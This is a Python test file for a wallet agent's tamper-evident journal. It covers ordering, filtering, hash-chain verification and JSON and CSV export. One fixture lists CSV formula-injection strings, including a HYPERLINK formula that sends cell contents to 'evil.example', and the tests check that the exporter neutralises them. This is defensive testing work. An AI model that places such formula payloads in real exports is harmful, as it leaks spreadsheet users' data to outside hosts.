"""The holder's log: chained, filterable, without values, and honest about tampering."""

from __future__ import annotations

import csv
import io
import json
import re
import secrets
from dataclasses import asdict
from pathlib import Path

import pytest

from aggregation.wire.secret import Secret
from wallets.agent import journal, vault
from wallets.agent.journal import Entry, Journal, Kind


@pytest.fixture
async def store(tmp_path: Path):
    made, _ = await vault.create(tmp_path / "w", rng=secrets.token_bytes, host_key=Secret(bytes(range(32))))
    yield made
    await made.close()


async def filled(store: vault.AskarStore) -> Journal:
    log = Journal(store)
    await log.append(100, Kind.CREATED)
    await log.append(200, Kind.VISIT, collective_id="a", round=1, amount="5")
    await log.append(300, Kind.REFUSED, collective_id="b", code="no_permit", sentence="No.")
    await log.append(400, Kind.VISIT, collective_id="b", round=2, amount="5")
    return log


async def test_entries_keep_their_order_and_filter(store: vault.AskarStore) -> None:
    log = await filled(store)
    assert [e.seq for e in await log.entries()] == [0, 1, 2, 3]
    assert [e.round for e in await log.entries(kinds=[Kind.VISIT])] == [1, 2]
    assert [e.kind for e in await log.entries(collective_id="b", newest_first=True)] == ["visit", "refused"]
    assert [e.at for e in await log.entries(since=300)] == [300, 400]
    assert await log.verify() is None


@pytest.mark.parametrize(
    "field, value", [("amount", "6"), ("at", 201), ("sentence", "x"), ("hash", "00" * 32)]
)
async def test_a_changed_entry_breaks_the_chain_where_it_was_changed(
    store: vault.AskarStore, field: str, value: object
) -> None:
    log = await filled(store)
    entry = {**asdict((await log.entries())[1]), field: value}
    await store.put(journal.CATEGORY, f"{1:012d}", entry)
    assert await log.verify() == 1


async def test_a_dropped_or_cut_off_entry_is_noticed(store: vault.AskarStore) -> None:
    log = await filled(store)
    await store.remove(journal.CATEGORY, f"{3:012d}")
    assert await log.verify() == 3
    await store.remove(journal.CATEGORY, f"{1:012d}")
    assert await log.verify() == 1


async def test_a_deleted_entry_keeps_its_place_and_the_chain(store: vault.AskarStore) -> None:
    log = await filled(store)
    assert await log.delete(2)
    assert not await log.delete(99)
    gone = (await log.entries())[2]
    assert (gone.kind, gone.sentence, gone.code) == ("deleted", "", "")
    assert await log.verify() is None
    await log.append(500, Kind.PAIRED)
    assert await log.verify() is None


async def test_exports_hold_every_entry(store: vault.AskarStore) -> None:
    entries = await (await filled(store)).entries()
    assert [line["seq"] for line in json.loads(journal.export_json(entries))] == [0, 1, 2, 3]
    lines = list(csv.DictReader(io.StringIO(journal.export_csv(entries))))
    assert [line["seq"] for line in lines] == ["0", "1", "2", "3"]
    assert lines[2] == {name: str(value) for name, value in asdict(entries[2]).items()} | {"deleted": "false"}


def strange_entries() -> list[Entry]:
    """What strangers could have put into a wallet's journal so that a spreadsheet computes it."""
    texts = (
        *(
            '=HYPERLINK("https://evil.example/?"&A1)',
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
        ),
        *(
            "  =1+1",
            "＝1+1",
            "＋1",
            "－1",
            "＠A1",
            "fine;=1+1",
            "fine\t=1+1",
            'he said ","=1+1',
            "two\r\nlines",
            "",
        ),
    )
    return [
        Entry(seq=number, at=number, kind="refused", sentence=text, code=text, collective_id=text, amount="7")
        for number, text in enumerate(texts)
    ]


def test_no_cell_of_the_csv_is_a_formula() -> None:
    entries = strange_entries()
    text = journal.export_csv(entries)
    for separator in ",;\t":  # spreadsheets split by what is usual where they run, whatever the quotes say
        for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
            assert not any(re.match(r'[\s"]*[=+\-@＝＋－＠]', cell) for cell in row), (separator, row)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    said = [(entry.sentence, row["sentence"]) for entry, row in zip(entries, rows, strict=True)]
    assert [now.replace("'", "") for _, now in said] == [was for was, _ in said]
    assert [was for was, now in said if was == now] == ['he said ","=1+1', "two\r\nlines", ""]
